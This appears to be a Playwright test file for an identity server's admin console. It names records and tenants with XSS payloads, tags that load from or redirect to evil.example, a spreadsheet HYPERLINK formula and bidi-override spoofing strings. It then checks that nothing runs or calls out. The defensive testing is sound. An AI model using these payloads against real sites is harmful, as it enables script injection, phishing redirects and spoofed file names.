/** Names are data: no text that a stranger chose runs, loads or leads anywhere in the console. */
import { beforeAll, describe, expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import type { Deployment } from '../../../../packages/server/test/deployment/deployment.js';
import type { Json } from '../../../../packages/server/test/deployment/exchange.js';
import { sqliteTarget } from '../../../../packages/server/test/deployment/targets.js';
import {
  addClient,
  addGroup,
  addProvider,
  addResource,
  addRole,
  addUser,
} from '../../../../packages/server/test/deployment/world.js';
import { consoleSuite } from './console-suite.js';

const attack = 'window.attacked=1';

const hostile: readonly string[] = [
  `<script>${attack}</script>`,
  `<img src=x onerror="${attack}">`,
  `<svg/onload=${attack}>`,
  `<svg><script>${attack}</script></svg>`,
  `<body onload=${attack}>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>">`,
  `<iframe src="javascript:parent.attacked=1">`,
  `<a href="javascript:${attack}">here</a>`,
  `<details open ontoggle=${attack}>`,
  `<input autofocus onfocus=${attack}>`,
  `<video><source onerror="${attack}">`,
  `<math><mtext></mtext><img src=x onerror=${attack}></math>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<img src=https://evil.example/x.png>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button>Sign in</button>`,
  `"><script>${attack}</script>`,
  `' onmouseover='${attack}`,
  `" autofocus onfocus="${attack}`,
  `</title><script>${attack}</script>`,
  `</textarea><script>${attack}</script>`,
  `--><script>${attack}</script>`,
  `]]><script>${attack}</script>`,
  `{{constructor.constructor('${attack}')()}}`,
  '${' + attack + '}',
  `javascript:${attack}`,
  `data:text/html,<script>${attack}</script>`,
  `&lt;script&gt;${attack}&lt;/script&gt;`,
  `=HYPERLINK("https://evil.example/","here")`,
  `<scr<script>ipt>${attack}</scr</script>ipt>`,
];

/** Names that would turn the text around them (Unicode UAX #9). */
const turning: readonly string[] = [
  'attacked \u202egnp.exe',
  'attacked \u202dabc\u202e',
  'attacked \u2067abc',
  'attacked \u2069\u202eabc',
  'attacked \u05d0\u05d1\u05d2 (1)',
  'attacked \u0644\u064a\u0644\u0649 - 7',
];

/** The lines of the page in which other words stand beside a name that turns them, with nothing between. */
const turnedLines = `(() => {
  const turns = /[\\u202a-\\u202e\\u2066-\\u2069\\u0590-\\u07ff]/;
  const isBox = (element) => {
    const { display, unicodeBidi } = getComputedStyle(element);
    return display !== 'inline' || /isolate|plaintext/.test(unicodeBidi);
  };
  const found = [];
  const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const text = walker.currentNode.data.trim();
    if (!turns.test(text)) continue;
    let box = walker.currentNode.parentElement;
    while (!isBox(box)) box = box.parentElement;
    const line = box.innerText.split('\\n').find((each) => each.includes(text.slice(0, 12)));
    if (line !== undefined && line.trim() !== text) found.push(line);
  }
  return found;
})()`;

const names = [...hostile, ...turning];

/** What names have not been given with since they must not hold invisible characters. Those of before stay. */
const refusedToday = /[\u202a-\u202e\u2066-\u2069]/;

/** A name that is taken today, in place of one that is not. */
const takenName = (text: string, place: number): string =>
  refusedToday.test(text) ? `attacked ${place}` : text;

type Named = 'clients' | 'roles' | 'groups' | 'identityProviders' | 'resources';

/** What records of all these kinds are stored in. */
interface NameStore {
  readonly change: (id: string, changed: (kept: object) => object) => Promise<unknown>;
}

/** Gives the record the name that it would have kept from before. */
const named = async (
  { storage }: Deployment,
  kind: Named,
  { record, text }: { readonly record: Json; readonly text: string },
): Promise<Json> => {
  const store = storage[kind] as unknown as NameStore;
  if (refusedToday.test(text)) await store.change(record.id, (kept) => ({ ...kept, name: text }));
  return record;
};

const titleOf = (page: Page, text: string) =>
  page.getByRole('heading', { level: 1 }).getByText(text, { exact: true });

/** What a page did that it must not do. */
const watch = (page: Page, issuer: string): string[] => {
  const done: string[] = [];
  page.on('dialog', (dialog) => {
    done.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(issuer) && !/^(data|blob):/.test(url)) done.push(`request ${url}`);
  });
  return done;
};

consoleSuite(
  'hostile names',
  () => sqliteTarget,
  (at) => {
    const made: Record<
      'clients' | 'resources' | 'roles' | 'groups' | 'users' | 'providers',
      Json[]
    > = {
      clients: [],
      resources: [],
      roles: [],
      groups: [],
      users: [],
      providers: [],
    };

    beforeAll(async () => {
      const { server } = at;
      for (const [place, text] of names.entries()) {
        const name = takenName(text, place);
        const own = { is_global: false, tenant_id: at.tenantId };
        const keep = async (kind: Named, record: Promise<Json>) =>
          named(server, kind, { record: await record, text });

        made.clients.push(
          await keep(
            'clients',
            addClient(server, { client_name: name, client_description: text, ...own }),
          ),
        );
        made.roles.push(
          await keep('roles', addRole(server, { role_name: name, role_description: text })),
        );
        made.groups.push(
          await keep('groups', addGroup(server, { group_name: name, group_description: text })),
        );
        made.users.push(await addUser(server, { name: text, given_name: text }));
        made.providers.push(
          await keep(
            'identityProviders',
            addProvider(server, at.tenantId, { provider_name: name }),
          ),
        );
        made.resources.push(
          await keep(
            'resources',
            addResource(server, {}, { resource_name: name, resource_description: text }),
          ),
        );
      }
    });

    test('there is a record of each kind under every name', () => {
      const counts = Object.values(made).map((records) => records.length);
      expect(counts).toEqual(counts.map(() => names.length));
    });

    test('the policy of the pages lets no script run that stands in a page', async () => {
      const answer = await fetch(`${at.server.keyward.issuer}/console/`);
      const policy = answer.headers.get('content-security-policy')!;
      const [scripts] = /script-src [^;]*/.exec(policy)!;
      expect(scripts).toBe("script-src 'self'");
      expect(policy).toContain("frame-ancestors 'none'");
    });

    describe.each([
      ['applications', 'Applications', 'clients'],
      ['people', 'People', 'users'],
      ['roles', 'Roles', 'roles'],
      ['groups', 'Groups', 'groups'],
      ['apis', 'APIs', 'resources'],
      ['identity-providers', 'Identity providers', 'providers'],
    ] as const)('%s', (path, heading, records) => {
      test('are listed as text, and so is the page of each', async () => {
        const { page, opens } = await at.arrives({ path: `/${path}` });
        const done = watch(page, at.server.keyward.issuer);
        await page.getByRole('heading', { level: 1, name: heading }).waitFor();
        await page.getByRole('main').getByText('attacked').first().waitFor();

        for (const [place, { id }] of made[records].entries()) {
          await opens(`/${path}/${id}`);
          await titleOf(page, names[place]!).waitFor();
          expect(await page.evaluate(turnedLines)).toEqual([]);
        }
        await opens(`/${path}?sort=created_at:desc`);
        await page.getByRole('heading', { level: 1, name: heading }).waitFor();
        await page.getByRole('main').getByText('attacked').first().waitFor();
        expect(await page.evaluate(turnedLines)).toEqual([]);
        expect(await page.evaluate('window.attacked')).toBeUndefined();
        expect(done).toEqual([]);
      });
    });
  },
);

consoleSuite(
  'hostile names of tenants',
  () => sqliteTarget,
  (at) => {
    const tenants: string[] = [];

    beforeAll(async () => {
      for (const [place, text] of names.entries()) {
        const { body } = await at.server.manage('POST', '/tenants', {
          tenant_name: `tenant-${place}`,
          tenant_display_name: takenName(text, place),
          tenant_description: text,
        });
        if (refusedToday.test(text))
          await at.server.storage.tenants.change(body.id, (kept) => ({
            ...kept,
            displayName: text,
          }));
        tenants.push(body.id);
      }
    });

    test('are listed as text, and so is the page of each', async () => {
      const { page, opens } = await at.arrives({ path: '/tenants' });
      const done = watch(page, at.server.keyward.issuer);
      await page.getByRole('main').getByText('attacked').first().waitFor();
      expect(await page.evaluate(turnedLines)).toEqual([]);

      for (const [place, id] of tenants.entries()) {
        await opens(`/tenants/${id}`);
        await titleOf(page, names[place]!).waitFor();
        expect(await page.evaluate(turnedLines)).toEqual([]);
      }
      expect(await page.evaluate('window.attacked')).toBeUndefined();
      expect(done).toEqual([]);
    });

    test('do not turn the question of a dialog', async () => {
      const place = names.indexOf(turning[0]!);
      const { page, presses } = await at.arrives({ path: `/tenants/${tenants[place]}` });
      await titleOf(page, names[place]!).waitFor();
      await presses('Delete');
      await page
        .getByRole('dialog')
        .getByText('Delete \u2068attacked gnp.exe\u2069?', { exact: true })
        .waitFor();
    });
  },
  { configuration: { multiTenant: true, firstStart: { hasGlobalAdmin: true } } },
);
